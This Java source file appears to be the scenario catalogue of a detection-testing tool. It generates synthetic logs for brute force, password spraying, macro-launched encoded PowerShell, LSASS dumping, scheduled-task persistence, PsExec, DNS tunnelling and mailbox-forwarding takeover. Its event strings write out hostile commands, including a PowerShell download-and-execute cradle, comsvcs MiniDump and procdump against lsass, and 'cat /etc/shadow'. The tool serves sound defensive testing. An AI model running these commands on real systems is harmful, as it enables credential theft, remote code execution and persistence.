package dev.rampart.simulate;

import dev.rampart.core.event.Event;
import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.List;
import java.util.Locale;
import java.util.SplittableRandom;

/**
 * The attack scenarios {@code rampart simulate} can inject, each described by its name, a summary
 * and the ATT&CK techniques it exercises. Each one emits the events a real attack of that kind
 * leaves in Sysmon, the Security and System logs, Linux auth logs and Zeek, with realistic timing.
 */
public enum Scenario {
  SSH_BRUTE_FORCE(
      "ssh-brute-force",
      "SSH password guessing from one address, then a successful login and sudo",
      List.of("T1110.001", "T1078", "T1548.003")) {
    @Override
    void emit(Ctx c, long t) {
      World.Host target = c.world.linux.get(3); // the bastion faces the internet
      String attacker = World.externalIp(c.rnd);
      String victim = c.world.user(c.rnd);
      String[] guesses = {
        "root", "admin", "test", "oracle", "ubuntu", "postgres", "git", "user", "support", victim
      };
      int failures = 25 + c.rnd.nextInt(35);
      int pid = 20_000 + c.rnd.nextInt(20_000);
      for (int i = 0; i < failures; i++) {
        t += 700_000_000L + c.rnd.nextLong(2_000_000_000L);
        String user = guesses[c.rnd.nextInt(guesses.length)];
        boolean invalid = !user.equals(victim) && !user.equals("root");
        c.shapes.sshd(
            c.event(),
            t,
            target,
            pid + i,
            false,
            "password",
            user,
            invalid,
            attacker,
            30_000 + c.rnd.nextInt(30_000));
        c.add(t, "T1110.001", "failed password guess");
      }
      t += 2_000_000_000L;
      c.shapes.sshd(
          c.event(),
          t,
          target,
          pid + failures,
          true,
          "password",
          victim,
          false,
          attacker,
          30_000 + c.rnd.nextInt(30_000));
      c.add(t, "T1078", "successful login after guessing");
      t += 15_000_000_000L + c.rnd.nextLong(30_000_000_000L);
      c.shapes.sudo(c.event(), t, target, victim, "/usr/bin/cat /etc/shadow");
      c.add(t, "T1548.003", "sudo to read password hashes");
    }
  },

  PASSWORD_SPRAY(
      "password-spray",
      "One password tried against many accounts (4625), then a logon that works (4624)",
      List.of("T1110.003", "T1078")) {
    @Override
    void emit(Ctx c, long t) {
      World.Host dc = c.world.domainController;
      World.Host from = c.world.workstation(c.rnd);
      int accounts = 20 + c.rnd.nextInt(20);
      List<String> users = c.world.users;
      int start = c.rnd.nextInt(users.size());
      for (int i = 0; i < accounts; i++) {
        t += 300_000_000L + c.rnd.nextLong(4_000_000_000L);
        String user = users.get((start + i) % users.size());
        c.shapes.securityLogon(
            c.event(),
            t,
            dc,
            false,
            user,
            3,
            from.ip(),
            40_000 + c.rnd.nextInt(20_000),
            from.name(),
            "-");
        c.add(t, "T1110.003", "failed network logon in a spray");
      }
      t += 1_000_000_000L + c.rnd.nextLong(5_000_000_000L);
      String hit = users.get((start + c.rnd.nextInt(accounts)) % users.size());
      c.shapes.securityLogon(
          c.event(),
          t,
          dc,
          true,
          hit,
          3,
          from.ip(),
          40_000 + c.rnd.nextInt(20_000),
          from.name(),
          "-");
      c.add(t, "T1078", "spray finds a valid password");
    }
  },

  ENCODED_POWERSHELL(
      "encoded-powershell",
      "An Office macro starts hidden PowerShell with a Base64 -EncodedCommand download cradle",
      List.of("T1059.001", "T1027", "T1566.001", "T1105")) {
    @Override
    void emit(Ctx c, long t) {
      World.Host h = c.world.workstation(c.rnd);
      String user = c.world.ownerOf(h);
      String c2 = World.externalIp(c.rnd);
      String script =
          "$s=New-Object Net.WebClient;IEX $s.DownloadString('http://" + c2 + "/update.ps1')";
      String encoded =
          Base64.getEncoder().encodeToString(script.getBytes(StandardCharsets.UTF_16LE));
      Shapes.Proc word =
          new Shapes.Proc(
              "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
              "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE\" /n \"C:\\Users\\"
                  + user
                  + "\\Downloads\\Invoice_"
                  + (1000 + c.rnd.nextInt(9000))
                  + ".docm\"",
              5000 + c.rnd.nextInt(3000),
              c.shapes.guid());
      Shapes.Proc ps =
          new Shapes.Proc(
              "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
              "powershell.exe -NoP -NonI -W Hidden -Exec Bypass -enc " + encoded,
              8000 + c.rnd.nextInt(3000),
              c.shapes.guid());
      c.shapes.sysmonProcess(
          c.event(), t, h, ps, word, user, "Medium", "PowerShell.EXE", "Windows PowerShell");
      c.add(t, "T1059.001", "hidden encoded PowerShell from Word");
      t += 2_000_000L;
      c.shapes.securityProcess(c.event(), t, h, user, ps, word);
      c.add(t, "T1027", "the same process in the Security log");
      t += 900_000_000L;
      c.shapes.sysmonNetwork(c.event(), t, h, ps.image(), ps.pid(), user, c2, 80, "-");
      c.add(t, "T1105", "download of the second stage");
    }
  },

  LSASS_ACCESS(
      "lsass-access",
      "Credential dumping: LSASS memory read with comsvcs.dll MiniDump or ProcDump",
      List.of("T1003.001")) {
    @Override
    void emit(Ctx c, long t) {
      World.Host h =
          c.rnd.nextBoolean() ? c.world.workstation(c.rnd) : c.world.windowsServer(c.rnd);
      String user = c.world.admins.get(c.rnd.nextInt(c.world.admins.size()));
      int lsassPid = 600 + c.rnd.nextInt(200);
      Shapes.Proc cmd =
          new Shapes.Proc(
              "C:\\Windows\\System32\\cmd.exe",
              "\"C:\\Windows\\system32\\cmd.exe\"",
              4000 + c.rnd.nextInt(2000),
              c.shapes.guid());
      boolean comsvcs = c.rnd.nextBoolean();
      String dump = comsvcs ? "C:\\Windows\\Temp\\lsass.dmp" : "C:\\Users\\Public\\l.dmp";
      Shapes.Proc tool =
          comsvcs
              ? new Shapes.Proc(
                  "C:\\Windows\\System32\\rundll32.exe",
                  "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump "
                      + lsassPid
                      + " "
                      + dump
                      + " full",
                  7000 + c.rnd.nextInt(2000),
                  c.shapes.guid())
              : new Shapes.Proc(
                  "C:\\Users\\Public\\procdump64.exe",
                  "procdump64.exe -accepteula -ma lsass.exe " + dump,
                  7000 + c.rnd.nextInt(2000),
                  c.shapes.guid());
      c.shapes.sysmonProcess(
          c.event(),
          t,
          h,
          tool,
          cmd,
          user,
          "High",
          comsvcs ? "RUNDLL32.EXE" : "procdump",
          comsvcs ? "Windows host process (Rundll32)" : "Sysinternals process dump utility");
      c.add(t, "T1003.001", "dump tool started");
      t += 150_000_000L;
      String trace =
          "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|"
              + (comsvcs
                  ? "C:\\Windows\\System32\\comsvcs.dll+9a4b3"
                  : "C:\\Users\\Public\\procdump64.exe+1f8e2")
              + "|UNKNOWN(00007FFB12C1A2B7)";
      c.shapes.sysmonProcessAccess(
          c.event(),
          t,
          h,
          tool.image(),
          tool.pid(),
          "C:\\Windows\\system32\\lsass.exe",
          lsassPid,
          "0x1fffff",
          trace,
          user);
      c.add(t, "T1003.001", "LSASS opened with full access");
      t += 800_000_000L;
      c.shapes.sysmonFile(c.event(), t, h, tool.image(), tool.pid(), dump, user);
      c.add(t, "T1003.001", "memory dump written");
    }
  },

  SCHEDULED_TASK(
      "scheduled-task",
      "Persistence: schtasks creates a logon task running a binary from a public folder as SYSTEM",
      List.of("T1053.005", "T1105")) {
    @Override
    void emit(Ctx c, long t) {
      World.Host h = c.world.workstation(c.rnd);
      String user = c.world.ownerOf(h);
      String[] names = {
        "OneDriveUpdater", "GoogleUpdateTaskCore", "MicrosoftEdgeUpdateCheck", "SystemHealthMonitor"
      };
      String task = "\\" + names[c.rnd.nextInt(names.length)];
      String payload = "C:\\Users\\Public\\" + randomWord(c.rnd) + ".exe";
      Shapes.Proc cmd =
          new Shapes.Proc(
              "C:\\Windows\\System32\\cmd.exe",
              "\"C:\\Windows\\system32\\cmd.exe\"",
              4000 + c.rnd.nextInt(2000),
              c.shapes.guid());
      Shapes.Proc schtasks =
          new Shapes.Proc(
              "C:\\Windows\\System32\\schtasks.exe",
              "schtasks.exe /create /sc onlogon /tn \""
                  + task
                  + "\" /tr \""
                  + payload
                  + "\" /ru SYSTEM /rl highest /f",
              6000 + c.rnd.nextInt(2000),
              c.shapes.guid());
      c.shapes.sysmonFile(c.event(), t, h, "C:\\Windows\\Explorer.EXE", 4100, payload, user);
      c.add(t, "T1105", "payload dropped in a public folder");
      t += 20_000_000_000L + c.rnd.nextLong(40_000_000_000L);
      c.shapes.sysmonProcess(
          c.event(),
          t,
          h,
          schtasks,
          cmd,
          user,
          "High",
          "schtasks.exe",
          "Task Scheduler Configuration Tool");
      c.add(t, "T1053.005", "schtasks /create");
      t += 60_000_000L;
      c.shapes.securityTaskCreated(c.event(), t, h, user, task, payload, "");
      c.add(t, "T1053.005", "task registered (4698)");
    }
  },

  PSEXEC_LATERAL(
      "psexec-lateral",
      "Lateral movement with PsExec: admin share upload, PSEXESVC service, remote command as SYSTEM",
      List.of("T1021.002", "T1569.002", "T1570", "T1033")) {
    @Override
    void emit(Ctx c, long t) {
      World.Host src = c.world.workstation(c.rnd);
      World.Host dst = c.world.windowsServer(c.rnd);
      String admin = c.world.admins.get(c.rnd.nextInt(c.world.admins.size()));
      Shapes.Proc cmd =
          new Shapes.Proc(
              "C:\\Windows\\System32\\cmd.exe",
              "\"C:\\Windows\\system32\\cmd.exe\"",
              4000 + c.rnd.nextInt(2000),
              c.shapes.guid());
      Shapes.Proc psexec =
          new Shapes.Proc(
              "C:\\Tools\\PsExec64.exe",
              "PsExec64.exe \\\\" + dst.name() + " -accepteula -s cmd.exe /c \"whoami /all\"",
              6000 + c.rnd.nextInt(2000),
              c.shapes.guid());
      c.shapes.sysmonProcess(
          c.event(), t, src, psexec, cmd, admin, "High", "psexec.c", "Execute processes remotely");
      c.add(t, "T1569.002", "PsExec started");
      t += 300_000_000L;
      c.shapes.securityLogon(
          c.event(),
          t,
          dst,
          true,
          admin,
          3,
          src.ip(),
          50_000 + c.rnd.nextInt(10_000),
          src.name(),
          "-");
      c.add(t, "T1021.002", "network logon on the target");
      t += 100_000_000L;
      c.shapes.securityShare(c.event(), t, dst, false, admin, src.ip(), "ADMIN$", "");
      c.add(t, "T1021.002", "ADMIN$ share opened");
      t += 50_000_000L;
      c.shapes.securityShare(c.event(), t, dst, true, admin, src.ip(), "ADMIN$", "PSEXESVC.exe");
      c.add(t, "T1570", "PSEXESVC.exe copied to ADMIN$");
      t += 40_000_000L;
      c.shapes.sysmonFile(c.event(), t, dst, "System", 4, "C:\\Windows\\PSEXESVC.exe", "SYSTEM");
      c.add(t, "T1570", "service binary written");
      t += 200_000_000L;
      c.shapes.systemServiceInstalled(
          c.event(), t, dst, "PSEXESVC", "%SystemRoot%\\PSEXESVC.exe", "LocalSystem");
      c.add(t, "T1569.002", "PSEXESVC service installed (7045)");
      t += 120_000_000L;
      Shapes.Proc services =
          new Shapes.Proc(
              "C:\\Windows\\System32\\services.exe",
              "C:\\Windows\\system32\\services.exe",
              700,
              c.shapes.guid());
      Shapes.Proc svc =
          new Shapes.Proc(
              "C:\\Windows\\PSEXESVC.exe",
              "C:\\Windows\\PSEXESVC.exe",
              3000 + c.rnd.nextInt(2000),
              c.shapes.guid());
      c.shapes.sysmonProcess(
          c.event(),
          t,
          dst,
          svc,
          services,
          "SYSTEM",
          "System",
          "psexesvc.exe",
          "PsExec Service Host");
      c.add(t, "T1569.002", "PSEXESVC running");
      t += 30_000_000L;
      c.shapes.sysmonPipe(c.event(), t, dst, "\\PSEXESVC", svc.image(), svc.pid());
      c.add(t, "T1021.002", "PsExec control pipe");
      t += 200_000_000L;
      Shapes.Proc remoteCmd =
          new Shapes.Proc(
              "C:\\Windows\\System32\\cmd.exe",
              "cmd.exe /c \"whoami /all\"",
              5000 + c.rnd.nextInt(2000),
              c.shapes.guid());
      c.shapes.sysmonProcess(
          c.event(),
          t,
          dst,
          remoteCmd,
          svc,
          "SYSTEM",
          "System",
          "Cmd.Exe",
          "Windows Command Processor");
      c.add(t, "T1569.002", "remote command under PSEXESVC");
      t += 40_000_000L;
      Shapes.Proc whoami =
          new Shapes.Proc(
              "C:\\Windows\\System32\\whoami.exe",
              "whoami  /all",
              5500 + c.rnd.nextInt(2000),
              c.shapes.guid());
      c.shapes.sysmonProcess(
          c.event(),
          t,
          dst,
          whoami,
          remoteCmd,
          "SYSTEM",
          "System",
          "whoami.exe",
          "whoami - displays logged on user information");
      c.add(t, "T1033", "discovery as SYSTEM");
    }
  },

  RARE_DNS(
      "rare-dns",
      "Malware in a temp folder beacons through a never-seen tunnel domain (DNS, then HTTPS)",
      List.of("T1071.004", "T1572", "T1071.001")) {
    @Override
    void emit(Ctx c, long t) {
      World.Host h = c.world.workstation(c.rnd);
      String user = c.world.ownerOf(h);
      String image = "C:\\Users\\" + user + "\\AppData\\Local\\Temp\\" + randomWord(c.rnd) + ".exe";
      String domain =
          randomWord(c.rnd)
              + "-"
              + randomWord(c.rnd)
              + "-"
              + (10 + c.rnd.nextInt(89))
              + ".trycloudflare.com";
      String c2 = World.externalIp(c.rnd);
      int pid = 9000 + c.rnd.nextInt(3000);
      int beacons = 8 + c.rnd.nextInt(10);
      for (int i = 0; i < beacons; i++) {
        t += 55_000_000_000L + c.rnd.nextLong(10_000_000_000L);
        c.shapes.sysmonDns(c.event(), t, h, image, pid, domain, "::ffff:" + c2 + ";");
        c.add(t, "T1071.004", "lookup of the tunnel domain");
        c.shapes.zeekDns(
            c.event(),
            t + 1_000_000L,
            h.ip(),
            c.world.dnsServer,
            domain,
            "A",
            "NOERROR",
            List.of(c2));
        c.add(t + 1_000_000L, "T1071.004", "the same lookup seen by Zeek");
        c.shapes.sysmonNetwork(c.event(), t + 40_000_000L, h, image, pid, user, c2, 443, domain);
        c.add(t + 40_000_000L, "T1572", "HTTPS to the tunnel");
      }
    }
  },

  CLOUD_ACCOUNT_TAKEOVER(
      "cloud-account-takeover",
      "An Entra ID password spray from one address, a sign-in without a second factor that works,"
          + " then a mailbox rule forwarding the victim's mail out (Microsoft 365)",
      List.of("T1110.003", "T1078.004", "T1114.003")) {
    @Override
    void emit(Ctx c, long t) {
      String attacker = World.externalIp(c.rnd);
      String[] countries = {"RO", "VN", "BR", "NG", "KZ"};
      String country = countries[c.rnd.nextInt(countries.length)];
      String agent = "python-requests/2.31.0";
      String app = "Office 365 Exchange Online";
      List<String> users = c.world.users;
      int accounts = 12 + c.rnd.nextInt(15);
      int start = c.rnd.nextInt(users.size());
      for (int i = 0; i < accounts; i++) {
        t += 2_000_000_000L + c.rnd.nextLong(6_000_000_000L);
        String user = users.get((start + i) % users.size());
        c.shapes.entraSignIn(c.event(), t, user, attacker, false, app, agent, false, country);
        c.add(t, "T1110.003", "failed sign-in in a cloud password spray");
      }
      String victim = users.get((start + c.rnd.nextInt(accounts)) % users.size());
      t += 20_000_000_000L + c.rnd.nextLong(70_000_000_000L);
      c.shapes.entraSignIn(c.event(), t, victim, attacker, true, app, agent, false, country);
      c.add(t, "T1078.004", "the spray finds a password; no second factor asked");
      t += 120_000_000_000L + c.rnd.nextLong(240_000_000_000L);
      String drop = randomWord(c.rnd) + "@" + randomWord(c.rnd) + "-mail.example";
      c.shapes.m365(
          c.event(),
          t,
          "Exchange",
          1,
          "New-InboxRule",
          victim,
          attacker,
          Shapes.upn(victim) + "\\.",
          new String[] {
            "Name", ".", "ForwardTo", drop, "DeleteMessage", "True", "StopProcessingRules", "True"
          });
      c.add(t, "T1114.003", "a mailbox rule forwards every message out and deletes it");
    }
  };

  private final String id;
  private final String summary;
  private final List<String> techniques;

  Scenario(String id, String summary, List<String> techniques) {
    this.id = id;
    this.summary = summary;
    this.techniques = techniques;
  }

  /** The name used on the command line and in the ground truth. */
  public String id() {
    return id;
  }

  public String summary() {
    return summary;
  }

  /** ATT&CK technique ids this scenario exercises. */
  public List<String> techniques() {
    return techniques;
  }

  /** Emits one instance of the attack starting at {@code t} (epoch nanos). */
  abstract void emit(Ctx c, long t);

  /** Finds a scenario by its command-line name. */
  public static Scenario byId(String id) {
    for (Scenario s : values()) {
      if (s.id.equalsIgnoreCase(id)) {
        return s;
      }
    }
    throw new IllegalArgumentException(
        "unknown scenario '" + id + "'; see rampart simulate --list");
  }

  private static final String[] SYLLABLES = {
    "ka", "lo", "mi", "ne", "tor", "vax", "qu", "zen", "ri", "dus", "fle", "gor", "pim", "sa", "wex"
  };

  static String randomWord(SplittableRandom rnd) {
    StringBuilder sb = new StringBuilder();
    int n = 2 + rnd.nextInt(3);
    for (int i = 0; i < n; i++) {
      sb.append(SYLLABLES[rnd.nextInt(SYLLABLES.length)]);
    }
    return sb.toString().toLowerCase(Locale.ROOT);
  }

  /** What an emitting scenario needs: the world, a random stream, and where to put events. */
  abstract static class Ctx {
    final World world;
    final Shapes shapes;
    final SplittableRandom rnd;
    private final Event scratch = new Event(64);

    Ctx(World world, Shapes shapes, SplittableRandom rnd) {
      this.world = world;
      this.shapes = shapes;
      this.rnd = rnd;
    }

    /** A cleared event to fill. */
    Event event() {
      return scratch.clear();
    }

    /** Records the filled event as one step of the attack. */
    void add(long t, String technique, String step) {
      scratch.timestamp(t);
      accept(scratch.copy(), technique, step);
    }

    abstract void accept(Event e, String technique, String step);
  }
}
